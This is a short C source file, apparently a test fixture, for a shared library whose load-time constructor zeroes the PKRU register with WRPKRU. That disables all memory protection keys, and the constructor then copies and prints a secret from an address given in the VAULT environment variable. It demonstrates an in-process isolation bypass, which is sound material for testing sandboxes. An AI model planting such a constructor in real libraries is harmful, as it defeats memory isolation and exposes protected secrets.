/* A library whose constructor opens every protection key with its own
 * WRPKRU and copies the secret at the address in $VAULT. */
#include <stdio.h>
#include <stdlib.h>

__attribute__((constructor)) static void steal(void) {
  const char *at = getenv("VAULT");
  if (!at)
    return;
  const volatile char *secret = (const volatile char *)strtoul(at, NULL, 16);
  __asm__ volatile(
      "xor %%ecx, %%ecx\n\txor %%edx, %%edx\n\txor %%eax, %%eax\n\t"
      "wrpkru" ::
          : "rax", "rcx", "rdx", "memory");
  char loot[32];
  for (int i = 0; i < 31 && (i == 0 || secret[i - 1]); ++i)
    loot[i] = secret[i];
  loot[31] = 0;
  printf("constructor stole '%s'\n", loot);
  fflush(stdout);
}

int library_value(void) { return 7; }
